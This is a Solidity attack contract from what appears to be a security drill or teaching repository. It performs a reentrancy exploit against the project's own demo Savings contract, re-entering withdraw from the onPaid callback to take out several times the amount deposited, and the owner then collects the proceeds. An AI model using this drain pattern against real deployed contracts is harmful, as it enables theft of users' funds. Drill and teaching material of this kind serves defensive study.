// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {ISaver, Savings} from "../../contracts/demo/Savings.sol";

/// @title ReentrancyAttacker: robs the demo's {Savings} of a multiple of what it saved there, for drills
/// @notice One transaction: save a little, withdraw it, and withdraw it again from within each payment.
contract ReentrancyAttacker is ISaver {
    using SafeERC20 for IERC20;

    /// @notice The deployer, who attacks and collects.
    address public immutable owner;
    Savings public immutable savings;
    IERC20 public immutable dollar;

    uint256 private _again;

    error NotOwner(address caller);
    error NotSavings(address caller);

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    constructor(Savings savings_) {
        owner = msg.sender;
        savings = savings_;
        dollar = savings_.dollar();
    }

    /// @param stake dollars of this contract to save first
    /// @param times how often to be paid them
    function attack(uint256 stake, uint256 times) external onlyOwner {
        _again = times - 1;
        dollar.forceApprove(address(savings), stake);
        savings.save(stake);
        savings.withdraw(stake);
    }

    /// @notice Pays out all this contract has.
    function collect() external onlyOwner {
        dollar.safeTransfer(owner, dollar.balanceOf(address(this)));
    }

    /// @inheritdoc ISaver
    function onPaid(uint256 amount) external {
        if (msg.sender != address(savings)) revert NotSavings(msg.sender);
        if (_again == 0) return;
        _again--;
        savings.withdraw(amount);
    }
}
